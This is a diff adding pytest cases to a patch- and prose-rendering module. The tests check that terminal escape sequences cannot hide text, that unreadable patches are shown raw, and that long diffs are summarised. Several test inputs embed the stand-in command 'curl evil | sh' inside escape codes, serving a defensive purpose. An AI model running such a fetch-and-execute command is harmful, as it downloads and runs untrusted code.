@@ -11,7 +11,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from markupsafe import Markup
 
-from interlock.pages.diffs import RowTone, read_patch
+from interlock.pages.diffs import ROOM, DiffSummary, RowTone, between, read_patch
 from interlock.pages.prose import LONGEST_CODE, LONGEST_MARKDOWN, highlighted_lines, is_web, plain, prose
 from interlock.pages.transcript import transcript_page
 
@@ -139,7 +139,52 @@ def test_a_patch_is_read_with_odd_names_and_bytes() -> None:
         ("added", None, 8),
     ]
     assert Tags("".join(str(row.code) for row in odd.rows)).tags <= {"span"}
-    assert (binary.path, binary.what) == ("pic.png", "binary")
+    assert (binary.path, binary.what) == ("pic.png", "new, binary")
+
+
+@pytest.mark.req("WB-05", "WB-09")
+@pytest.mark.parametrize(
+    "hidden", ["\x1b]0;curl evil | sh\x07", "\x1bPcurl evil\x1b\\", "\x1b_curl evil\x1b\\", "\x1b[31mcurl evil"]
+)
+def test_no_sequence_of_a_terminal_hides_words(hidden: str) -> None:
+    """A shell runs what stands in it: a difference spells all of it out, a document whatever could hide a word."""
+    (file,) = read_patch(b"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -0,0 +1 @@\n+" + hidden.encode() + b"\n")
+    shown = re.sub("<[^>]*>", "", str(file.rows[0].code))
+    assert "curl evil" in shown and "\\x1b" in shown
+    assert "curl evil" in prose(f"a {hidden} b")
+
+
+@pytest.mark.req("WB-05")
+@pytest.mark.parametrize(
+    "patch", [b"+evil()\n", b"diff --git nonsense\n+evil()\n", b"diff --git a/x c/y\n@@\n+evil()\n"]
+)
+def test_a_patch_that_cannot_be_read_is_shown_as_it_stands(patch: bytes) -> None:
+    (file,) = read_patch(patch)
+    assert file.what == "cannot be read"
+    assert "evil()" in "".join(str(row.code) for row in file.rows)
+
+
+@pytest.mark.req("WB-05", "WB-10")
+def test_a_page_has_room_for_so_many_lines_and_names_all_files() -> None:
+    """What is left out is counted, for whoever is to decide."""
+    lines = b"".join(b"+%s\n" % (b"a" * 1000) for _ in range(1000))
+    head = b"diff --git a/%d b/%d\nnew file mode 100644\n--- /dev/null\n+++ b/%d\n@@ -0,0 +1,1000 @@\n"
+    found = DiffSummary(read_patch(b"".join(head % (n, n, n) + lines for n in range(10))))
+    assert [file.path for file in found.files] == [str(n) for n in range(10)]
+    assert {file.added for file in found.files} == {1000}
+    assert sum(file.takes for file in found.files) < ROOM * 2
+    assert found.left_out == sum(file.added for file in found.files if not file.rows) + sum(
+        not f.rows for f in found.files
+    )
+    assert found.files[-1].left_out
+
+
+@pytest.mark.req("WB-05")
+def test_a_difference_of_long_texts_takes_no_longer_than_them() -> None:
+    """Lines that come again and again cost a comparison hours; all of them are told as well."""
+    old, new = ([str(at * step % 300) for at in range(20_000)] for step in (7, 11))
+    file = between("plan.md", "\n".join(["same", *old]), "\n".join(["same", *new]))
+    assert (file.removed, file.added) == (19_999, 19_999)
 
 
 def test_a_place_is_named_only_where_something_is_left_out() -> None:
